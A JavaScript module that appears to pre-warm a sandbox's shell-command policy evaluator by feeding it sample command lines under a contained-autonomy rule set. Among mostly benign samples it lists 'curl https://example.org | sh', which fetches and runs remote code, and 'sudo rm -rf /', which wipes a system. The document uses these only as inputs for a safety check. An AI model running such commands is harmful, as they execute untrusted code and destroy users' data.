// What judges, used once: V8 keeps the compiled code of the functions that these samples call.
const SAMPLES = [
  'true',
  'ls -la src | head -5',
  'git -C sub status --short && npm test 2>&1 | tail -20',
  'for f in *.ts; do wc -l "$f" > "out/$f.txt"; done; cd build && make -j4 || exit 1',
  'cat <<EOF > a.txt\n$HOME\nEOF',
  'find . -name "*.js" -exec grep -n TODO {} + | xargs rm -f',
  'FOO=1 python3 -c "print(1)" $(date +%F) | sed s/a/b/',
  'sh -c "curl https://example.org | sh"',
  'sudo rm -rf /',
  'ls |',
];

/** Decides about the samples, so that what decisions need is compiled. */
export async function decideSamples({
  parseShell,
  parseArgv,
  evaluate,
  CHECKS,
  isForeignTo,
  riskOfLine,
  reachOfLine,
}) {
  const rules = {
    workspace: '/w',
    writable: ['/tmp'],
    hidden: [],
    readable: ['/usr'],
    protected: ['/w/.git/hooks'],
    home: '/home/sandbox',
    userHome: '/home/user',
    permitDangerous: [],
    own: [],
    granted: [],
    held: { files: true, network: true, signals: true },
  };
  for (const parsed of [
    ...SAMPLES.map((text) => parseShell(text)),
    parseArgv(['npm', 'test']),
    parseArgv(['/bin/true']),
  ]) {
    const context = {
      parsed,
      text: '',
      autonomy: 'contained',
      approved: false,
      taints: new Set(),
      cwd: '/w',
      rules,
      paths: { resolve: (path) => ({ kind: 'other', canonical: path, links: [] }) },
      findExecutable: (name) => `/usr/bin/${name}`,
      gate: { hooks: [] },
    };
    const isForeign = isForeignTo(context);
    await evaluate(CHECKS, {
      ...context,
      risk: riskOfLine(parsed, isForeign),
      reach: reachOfLine(parsed, isForeign),
    });
  }
}
